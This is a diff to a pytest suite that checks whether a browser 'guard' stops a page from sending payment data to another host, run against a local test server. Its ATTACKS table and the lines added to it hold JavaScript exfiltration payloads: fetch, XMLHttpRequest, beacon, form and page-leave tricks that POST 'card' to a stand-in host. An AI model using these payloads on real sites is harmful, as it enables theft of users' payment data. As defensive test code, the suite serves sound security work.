@@ -207,6 +207,7 @@ SENDS = "fetch('THERE/pay', {method: 'POST', mode: 'no-cors', body: 'card'}); on
 """Script that pays at the other host; as a service worker it starts by itself, as any worker does."""
 _FORM = "<form id=f method=post action=THERE/pay></form><script>f.submit()<\\/script>"
 _LEAVES = "<script>onpagehide = () => { SEND }; setTimeout(() => { location = '/shop' }, 50)</script>"
+_OLD_REQUEST = "x = new XMLHttpRequest; x.open('POST', 'THERE/pay'); x.send('card')"
 ATTACKS = {
     # ways of a navigation
     "download": "<a id=x download href=THERE/pay></a><script>x.click()</script>",
@@ -231,6 +232,9 @@ ATTACKS = {
     "request on leaving": _LEAVES.replace("SEND", "fetch(new Request('THERE/pay', {method: 'POST', keepalive: true}))"),
     "fetch of a frame on leaving": "<iframe id=i></iframe>"
     + _LEAVES.replace("SEND", "i.contentWindow.fetch('THERE/pay', {method: 'POST', mode: 'no-cors', keepalive: true})"),
+    "old request on leaving": _LEAVES.replace("SEND", _OLD_REQUEST),
+    "requests of a closed window": "<script>w = open('/attack/many'); setTimeout(() => w.close(), 300)</script>",
+    "many": f"<script>setInterval(() => {{ {_OLD_REQUEST} }}, 10)</script>",
     "fetch later": _LEAVES.replace("SEND", "window.fetchLater?.('THERE/pay', {method: 'POST', body: 'card'})"),
     "worker": "<script>new Worker('/worker.js')</script>",
     "shared worker": "<script>new SharedWorker('/worker.js')</script>",
@@ -250,7 +254,7 @@ class Site(BaseHTTPRequestHandler):
     def do_GET(self) -> None:
         place, host = unquote(self.path.partition("?")[0]), self.headers["host"].partition(":")[0]
         port = self.server.server_address[1]
-        if self.command == "POST":
+        if "content-length" in self.headers:
             self.rfile.read(int(self.headers["content-length"]))
         if place == "/pay":
             self.paid.append(f"{self.command} {host}")
@@ -280,7 +284,7 @@ class Site(BaseHTTPRequestHandler):
                   .catch(() => 0).then(() => document.title = 'sent')">Pay</button>""".encode()
             )
 
-    do_POST = do_PUT = do_GET  # noqa: N815
+    do_POST = do_PUT = do_PATCH = do_GET  # noqa: N815
 
     def log_message(self, *_: Any) -> None:
         pass
@@ -305,7 +309,7 @@ def browser() -> Iterator[Any]:
 @pytest.fixture
 def site() -> Iterator[Any]:
     Site.paid = []
-    server = ThreadingHTTPServer(("127.0.0.1", 0), Site)
+    server = ThreadingHTTPServer(("127.0.0.1", 0), type("ThisSite", (Site,), {"paid": Site.paid}))
     threading.Thread(target=server.serve_forever, daemon=True).start()
     yield f"http://127.0.0.1:{server.server_port}"
     server.shutdown()
@@ -348,16 +352,20 @@ def test_a_form_in_a_browser_is_sent_to_a_checked_host_only(guard: Any, browser:
 
 @pytest.mark.parametrize("attack", ATTACKS)
 def test_no_page_of_a_checked_host_opens_or_sends_to_another(guard: Any, browser: Any, site: str, attack: str) -> None:
-    context = browser.new_context()
-    guard.hold(context, "payment")
-    page = context.new_page()
-    with suppress(Exception):  # the page may leave, or be stopped, while it is loading
-        page.goto(f"{site}/attack/{attack.replace(' ', '%20')}")
-    for _ in range(30 if isinstance(guard, Off) else 10):
-        page.wait_for_timeout(100)
+    for _ in range(5 if isinstance(guard, Off) else 1):  # a browser does not always send what a leaving page sends
+        context = browser.new_context()
+        guard.hold(context, "payment")
+        page = context.new_page()
+        with suppress(Exception):  # the page may leave, or be stopped, while it is loading
+            page.goto(f"{site}/attack/{attack.replace(' ', '%20')}")
+        for _ in range(10):
+            page.wait_for_timeout(100)
+            if Site.paid:
+                break
+        page.wait_for_timeout(100)  # a browser that closes a page while it loads the next may hang
+        context.close()
         if Site.paid:
             break
-    context.close()
 
     assert bool(Site.paid) is isinstance(guard, Off), Site.paid
 
@@ -367,20 +375,60 @@ def test_what_a_held_page_sends_to_its_own_host_arrives(browser: Any, site: str,
     held = Guard(answers).hold(context, "payment")
     page = context.new_page()
     page.goto(f"{site}/shop")
-    status = page.evaluate("""async () => {
+    statuses = page.evaluate("""async () => {
       navigator.sendBeacon("/pay", "card");
       const body = new Blob(["card"]);
-      return (await fetch(new Request("/pay", { method: "PUT", body, keepalive: true }))).status;
+      const { status } = await fetch(new Request("/pay", { method: "PUT", body, keepalive: true }));
+      const old = (waits) => new Promise((done) => {
+        const request = new XMLHttpRequest();
+        request.onload = () => done(request.status);
+        request.open("PATCH", "/pay", waits);
+        request.setRequestHeader("Content-Type", "text/plain");
+        request.send("card");
+      });
+      return [status, await old(true), await old(false)];
     }""")
     page.wait_for_timeout(200)
     context.close()
 
-    assert (status, sorted(Site.paid), held.stops, held.blocked) == (
-        200,
-        ["POST 127.0.0.1", "PUT 127.0.0.1"],
-        [],
-        [],
+    assert (statuses, sorted(Site.paid)) == (
+        [200, 200, 200],
+        ["PATCH 127.0.0.1", "PATCH 127.0.0.1", "POST 127.0.0.1", "PUT 127.0.0.1"],
     )
+    assert (held.stops, held.blocked) == ([], [])
+
+
+@pytest.mark.parametrize("waits", ["true", "false"])
+def test_a_script_learns_of_a_stopped_request_as_of_any_network_error(
+    browser: Any, site: str, answers: Answers, waits: str
+) -> None:
+    context = browser.new_context()
+    held = Guard(answers).hold(context, "payment")
+    page = context.new_page()
+    page.goto(f"{site}/shop")
+    told = page.evaluate(
+        """async ([there, waits]) => {
+      const failed = await fetch(there, { method: "POST", mode: "no-cors" }).catch((error) => error.name);
+      const old = await new Promise((done) => {
+        const request = new XMLHttpRequest();
+        request.onerror = () => done("error");
+        request.open("POST", there, waits);
+        try { request.send("card") } catch (error) { done(error.name) }
+      });
+      const given_up = new XMLHttpRequest();
+      given_up.open("POST", "/pay");
+      given_up.send("card");
+      given_up.abort();
+      return [failed, old];
+    }""",
+        [f"{site.replace('127.0.0.1', 'localhost')}/pay", waits == "true"],
+    )
+    page.wait_for_timeout(200)
+    context.close()
+
+    assert told == ["TypeError", "error" if waits == "true" else "NetworkError"]
+    assert Site.paid == []
+    assert len(held.blocked) == (2 if waits == "true" else 1)
 
 
 OUTSIDE = {
